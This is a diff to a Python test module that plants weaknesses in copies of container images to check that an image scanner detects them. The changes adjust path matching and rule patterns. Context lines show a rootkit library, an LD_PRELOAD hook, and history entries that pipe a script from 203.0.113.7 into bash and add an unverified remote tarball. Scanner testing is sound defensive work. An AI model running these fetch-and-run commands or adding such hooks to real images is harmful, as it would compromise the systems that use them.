@@ -1,7 +1,7 @@
 # SPDX-License-Identifier: Apache-2.0
 """What somebody can do to an image, one trick a function; poison makes twins of a clean image with them, quality counts which are found.
 
-A trick changes the twin `t` and names what has to be found: rules (a regular expression), at least that level, and at which path (None: any).
+A trick changes the twin `t` and names what has to be found: rules (a regular expression), at least that level, and at which path (None: any, "-": none).
 Bait that scanners of repositories would stumble over is put together while the twin is made.
 """
 import base64
@@ -22,7 +22,7 @@ class Trick:
 
     def found(self, finding):
         return (re.fullmatch(self.rules, finding["rule"]) and LEVELS.index(finding["level"]) <= LEVELS.index(self.level)
-                and (self.path is None or finding.get("path") == self.path))
+                and (self.path is None or finding.get("path", "-") == self.path))
 
 
 def trick(row, rules, path=None, level="medium", alone=False):
@@ -339,7 +339,7 @@ def rootkit_library(t):
     t.file("usr/lib/libperf.so.1", compiled(ROOTKIT, "-shared", "-fPIC"), 0o755)
 
 
-@trick("V6", "V6-preload", None, "high")
+@trick("V6", "V6-preload", "-", "high")
 def ld_preload_environment(t):
     """LD_PRELOAD in the image's environment"""
     t.env("LD_PRELOAD=/srv/lib/libhook.so")
@@ -528,13 +528,13 @@ def ssh_port(t):
     t.config.setdefault("ExposedPorts", {})["22/tcp"] = {}
 
 
-@trick("V10", "V10-(?!login-port|root-user).*", None, "medium")
+@trick("V10", "V10-pipe-to-shell", "-", "medium")
 def pipe_in_history(t):
     """a line of the history downloads and runs"""
     t.history("RUN /bin/sh -c curl -fsSL http://203.0.113.7/install.sh | bash")
 
 
-@trick("V10", "V10-(?!login-port|root-user).*", None, "medium")
+@trick("V10", "V10-(?!login-port|root-user|pipe).*", "-", "medium")
 def remote_add(t):
     """a line of the history adds what the network sent, without a digest"""
     t.history("ADD http://203.0.113.7/app.tar.gz /opt/")
